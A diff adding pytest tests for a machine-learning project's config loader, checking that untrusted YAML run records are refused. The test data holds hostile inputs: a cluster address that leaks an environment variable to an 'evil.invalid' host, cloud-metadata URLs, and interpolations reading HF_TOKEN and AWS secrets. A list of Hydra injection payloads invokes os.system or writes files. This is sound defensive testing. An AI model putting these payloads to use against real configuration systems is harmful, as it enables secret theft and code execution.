@@ -1,14 +1,24 @@
-"""A run's directory: never a silent overwrite, and only a run's own files are removed."""
+"""What a run's directory holds, hides and records."""
 
 import json
 from pathlib import Path
 
 import pytest
 
-from dhp.config.command_line import to_yaml
-from dhp.config.data import DatasetEntry
-from dhp.config.run_dir import check_run_dir, make_run_dir, replaces_checkpoints, run_directory
+from dhp.__main__ import main
+from dhp.config.command_line import compose_config, hydra_entry, key_help, to_yaml
+from dhp.config.data import DataConfig, DatasetEntry
+from dhp.config.keys import schema_keys
+from dhp.config.run_dir import (
+    check_run_dir,
+    compose_recorded,
+    make_run_dir,
+    replaces_checkpoints,
+    require_named_addresses,
+    run_directory,
+)
 from dhp.config.schema import Config
+from dhp.config.yaml_files import ConfigSource
 from dhp.core.errors import ConfigError
 
 
@@ -264,3 +274,243 @@ def test_a_run_continued_from_elsewhere_does_not_touch_another_one(tmp_path):
     config.training.resume = str(tmp_path.parent / "elsewhere")
     with pytest.raises(ConfigError, match="already holds a run"):
         check_run_dir(config)
+
+
+SECRET = "hf_value_of_it"
+
+
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("cluster: {address: 'ray://${oc.env:PUBLIC}.evil.invalid:10001'}", "plain record"),
+        ('text: {model_name: "evil/\\x24{oc.env:PUBLIC}"}', "plain record"),
+        ("data: {data_registry: {'${oc.env:PUBLIC}': {annotation_path: a}}}", "plain record"),
+        ("name: ['${now:%Y}']", "plain record"),
+        ("defaults: [tiny]", "it has defaults"),
+        ("hydra: {mode: RUN}", "it has hydra"),
+        ("[a, b]", "no keys"),
+        ("", "no keys"),
+        ("name: [", "cannot be read"),
+        ("name: &a [*a]", "one value stands in several places"),
+        ("a: &a [x]\nb: &b [*a, *a]\nname: [*b, *b]", "one value stands in several places"),
+    ],
+)
+def test_what_a_run_does_not_write_is_refused(
+    text: str, told: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PUBLIC", SECRET)
+    file = tmp_path / "config.yaml"
+    file.write_text(text)
+    with pytest.raises(ConfigError, match=told) as caught:
+        compose_recorded(file, ["cluster.address=local"])
+    assert SECRET not in str(caught.value)
+
+
+@pytest.mark.parametrize("address", ["ray://evil.invalid:10001", "127.0.0.1:19999"])
+def test_a_cluster_is_joined_only_if_the_command_line_names_it(address: str, tmp_path: Path) -> None:
+    file = tmp_path / "config.yaml"
+    file.write_text(f"cluster: {{address: '{address}'}}\n")
+    with pytest.raises(ConfigError, match=f"add cluster.address={address}"):
+        compose_recorded(file)
+    assert compose_recorded(file, ["cluster.address=local"]).cluster.address == "local"
+    assert compose_recorded(file, [f"cluster.address={address}"]).cluster.address == address
+    file.write_text("cluster: {address: auto}\n")
+    assert compose_recorded(file).cluster.address == "auto"
+
+
+def test_modules_are_imported_only_if_the_command_line_names_them(tmp_path: Path) -> None:
+    """A record that names one could run any code that lies in a folder of this machine's PYTHONPATH."""
+    file = tmp_path / "config.yaml"
+    file.write_text("plugins: [antigravity, this]\n")
+    with pytest.raises(ConfigError, match=r"modules whose code would run here.*add plugins=\[antigravity,this\]"):
+        compose_recorded(file)
+    assert compose_recorded(file, ["plugins=[my_family]"]).plugins == ["my_family"]
+    assert compose_recorded(file, ["plugins=[]"]).plugins == []
+    file.write_text("plugins: []\n")
+    assert compose_recorded(file).plugins == []
+
+
+def test_a_record_says_not_where_is_written_and_what_is_fetched(tmp_path: Path) -> None:
+    folder = tmp_path / "theirs"
+    writing = [f"training.checkpoint_dir={folder}", f"data.cache_dir={folder}", f"memory.cache_dir={folder}"]
+    writing += [f"data.cache_features={folder}", "data.cache_features_gib=1", "data.allow_http=true"]
+    theirs = compose_config("tiny", overrides=["seed=5", *writing])
+    file = tmp_path / "config.yaml"
+    file.write_text(to_yaml(theirs))
+    found = compose_recorded(file)
+    assert found.seed == 5 and found.text == theirs.text and str(folder) not in to_yaml(found)
+    assert not found.data.allow_http and found.data.cache_features_gib is None
+    mine = compose_recorded(file, writing)
+    assert (mine.data, mine.memory, mine.training) == (theirs.data, theirs.memory, theirs.training)
+
+
+@pytest.mark.parametrize("command", [["evaluate", "loss", "{run}"], ["generate", "checkpoint={run}", "prompt=a"]])
+def test_both_commands_read_a_run_so(
+    command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    checkpoint = tmp_path / "run" / "checkpoints" / "step_1"
+    checkpoint.mkdir(parents=True)
+    monkeypatch.setattr("dhp.cli.common.find_checkpoint", lambda _: checkpoint)
+    (tmp_path / "run" / "config.yaml").write_text("cluster: {address: '${oc.env:HOME}:1'}\n")
+    assert main([part.format(run=checkpoint) for part in command]) == 1
+    assert "is not the plain record that a run writes" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("field", ["annotation_path", "data_path"])
+def test_an_address_in_a_record_is_asked_only_if_the_command_line_names_it(field: str) -> None:
+    entry = {"annotation_path": "/a.json", "data_path": "/a"} | {field: "http://169.254.169.254/a.json"}
+    key = f"data.data_registry.theirs.{field}"
+    data = DataConfig(data_registry={"theirs": DatasetEntry(**entry), "own": DatasetEntry("/b.json")})
+    with pytest.raises(ConfigError, match=f"If you know it, add {key}=http://169.254.169.254/a.json"):
+        require_named_addresses(data, ["own", "theirs%50"], ["seed=1"])
+    require_named_addresses(data, ["own", "theirs"], [f"{key}=http://169.254.169.254/a.json"])
+    require_named_addresses(data, ["own"], [])  # which is not read
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "${oc.env:HF_TOKEN}",
+        "${oc.env:HF_TOKEN,none}",
+        "a/${oc.decode:${oc.env:WANDB_API_KEY}}",
+        "${oc.env:MY_${oc.env:HALF}}",
+        "${oc.env:my_password}",
+        "${oc.env:AWS_SECRET}",
+    ],
+)
+def test_a_secret_by_its_name_is_refused(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    names = ("HF_TOKEN", "WANDB_API_KEY", "MY_SECRET_SAUCE", "my_password", "AWS_SECRET")
+    for name in names:
+        monkeypatch.setenv(name, "hf_value_of_it")
+    monkeypatch.setenv("HALF", "SECRET_SAUCE")
+    (tmp_path / "mine.yaml").write_text(f"name: '{text}'\n")
+    for name, path, overrides in (("mine", str(tmp_path), []), ("tiny", None, [f"name='{text}'"])):
+        with pytest.raises(ConfigError, match=r"name: \$\{oc\.env:.* is a secret by its name") as caught:
+            compose_config(name, path, overrides)
+        assert "hf_value_of_it" not in str(caught.value)
+
+
+def test_other_variables_are_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SCRATCH", "/scratch")
+    (tmp_path / "mine.yaml").write_text("run_dir: ${oc.env:SCRATCH}/a\nname: ${oc.env:NOT_SET,b}\n")
+    config = compose_config("mine", str(tmp_path))
+    assert (config.run_dir, config.name) == ("/scratch/a", "b")
+    (tmp_path / "mine.yaml").write_text("name: ${oc.env:NOT_SET}\n")
+    with pytest.raises(ConfigError, match="Environment variable 'NOT_SET' not found"):
+        compose_config("mine", str(tmp_path))
+
+
+SHIPPED = ConfigSource.find(None, None)
+
+
+def shown(*paths: str) -> list[str]:
+    """Paragraphs, each on one line."""
+    return [" ".join(part.split()) for part in key_help(paths, SHIPPED).split("\n\n")]
+
+
+def test_a_key_has_its_type_default_and_meaning():
+    key = schema_keys()["data.balance"]
+    assert shown("data.balance") == [f"data.balance: text; default `random` {key.doc}"]
+    assert max(map(len, key_help(["data.balance"], SHIPPED).splitlines())) <= 110
+
+
+def test_a_section_has_all_its_keys_and_its_configurations():
+    lines = shown("text")
+    assert lines[0].startswith(
+        "text: a section of keys; text=NAME takes a configuration: data, data_zero2, data_zero3, "
+    )
+    told = [line.partition(": ")[0] for line in lines]
+    assert told == [path for path in schema_keys() if path == "text" or path.startswith("text.")]
+    assert "text.lora.rank" in told and "text.pipeline" in told
+
+
+@pytest.mark.parametrize(
+    ("path", "beginning"),
+    [
+        ("data.data_registry.mine.weight", "data.data_registry.<name>.weight: a number; default `1.0` How often"),
+        ("training.betas", "training.betas: a list such as [0.9, 0.999]; default `[0.9, 0.999]` "),
+        ("cluster.threads_per_actor", "cluster.threads_per_actor: a whole number or null; default `null` "),
+        ("data.data_registry.mine.data_path", "data.data_registry.<name>.data_path: text; default to be set "),
+        ("stages.first.settings.training.learning_rate", "stages.<name>.settings.training.learning_rate: a number; "),
+    ],
+)
+def test_keys_of_all_kinds(path, beginning):
+    (line,) = shown(path)
+    assert line.startswith(beginning)
+
+
+def test_several_at_once():
+    assert [line.partition(":")[0] for line in shown("seed", "name")] == ["seed", "name"]
+
+
+def test_what_is_no_key_is_refused_with_the_nearest_one():
+    with pytest.raises(ConfigError, match=r"^balance is not a key; did you mean data\.balance\?$"):
+        shown("balance")
+    with pytest.raises(ConfigError) as caught:
+        shown("data.balanse", "seed", "lora_rank")
+    assert str(caught.value).splitlines() == [
+        "2 things are wrong:",
+        "  data.balanse is not a key; did you mean data.balance?",
+        "  lora_rank is not a key; here it is vision.lora.rank and text.lora.rank (0: no LoRA)",
+    ]
+
+
+FILE = "{{class: logging.FileHandler, filename: {file}}}"
+WRITES = f"{{{{version: 1, root: {{{{handlers: [e]}}}}, handlers: {{{{e: {FILE}}}}}}}}}"
+ATTACKS = {
+    "a callback": "hydra: {{callbacks: {{e: {{_target_: pathlib.Path, _args_: [x]}}}}}}",
+    "a call": "hydra: {{callbacks: {{e: {{_target_: builtins.open, file: {file}, mode: w}}}}}}",
+    "the environment": "hydra: {{job: {{env_set: {{EVIL_SET: '1'}}}}}}",
+    "a log": f"hydra: {{{{job_logging: {WRITES}}}}}",
+    "a log by header": f"# @package hydra.job_logging\n{WRITES}",
+    "a section that is none": "hydra: null",
+    "a dotted key": "hydra.job.chdir: true",
+    "swept": "hydra: {{mode: MULTIRUN, sweeper: {{params: {{hydra.job.name: 'a,b'}}}}}}",
+    "a group's package": "defaults: [_self_, text@hydra.callbacks: evil]",
+    "a group's package by a name": "defaults: [_self_, 'text@${{oc.env:PACKAGE}}': evil]",
+    "a part of Hydra": "defaults: [_self_, override hydra/job_logging: default]",
+    "a file named for Hydra": "defaults: [_self_, other/hydra]",
+    "constructed deep in a value": "data: {{data_registry: {{a: {{columns: {{images: {{_target_: os.system}}}}}}}}}}",
+    "constructed in a list": "stages: {{a: {{settings: {{a: [{{'()': os.system}}]}}}}}}",
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_file_cannot_make_hydra_do_anything(
+    attack: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("HYDRA_FULL_ERROR", "")
+    monkeypatch.setenv("PACKAGE", "hydra.callbacks")
+    monkeypatch.delenv("EVIL_SET", raising=False)
+    written = tmp_path / "PWNED"
+    (tmp_path / "mine.yaml").write_text(ATTACKS[attack].format(file=json.dumps(str(written))) + "\n")
+    for name, text in {
+        "text/evil": "e: {_target_: os.getcwd}",
+        "other/hydra": "# @package _name_\nverbose: true",
+    }.items():
+        (tmp_path / f"{name}.yaml").parent.mkdir(exist_ok=True)
+        (tmp_path / f"{name}.yaml").write_text(text + "\n")
+    seen: list[object] = []
+    with pytest.raises(SystemExit):
+        hydra_entry(seen.append, [str(tmp_path / "mine.yaml")])
+    said = capsys.readouterr().err
+    assert said.startswith("ConfigError: ") and "A YAML file is data here" in said
+    assert not seen and not written.exists()
+    with pytest.raises(ConfigError, match="A YAML file is data here"):
+        compose_config("mine", str(tmp_path))
+
+
+def test_a_file_may_say_over_what_a_sweep_goes(tmp_path: Path) -> None:
+    sweep = "hydra: {mode: MULTIRUN, sweep: {dir: a, subdir: b}, sweeper: {params: {seed: '1,2'}}}\nseed: 3\n"
+    (tmp_path / "mine.yaml").write_text(sweep)
+    assert compose_config("mine", str(tmp_path)).seed == 3
+    seen: list[int] = []
+    hydra_entry(lambda config: seen.append(config.seed), [str(tmp_path / "mine.yaml"), f"hydra.sweep.dir={tmp_path}/s"])
+    assert seen == [1, 2]
+
+
+def test_a_file_that_unpickles_is_no_flag(capsys: pytest.CaptureFixture[str]) -> None:
+    for flag in ("--experimental-rerun", "--experimental-r", "--ex"):
+        with pytest.raises(SystemExit):
+            hydra_entry(lambda _: None, ["--config-name=tiny", flag, "job.pickle"])
+        assert f"{flag} is no flag" in capsys.readouterr().err
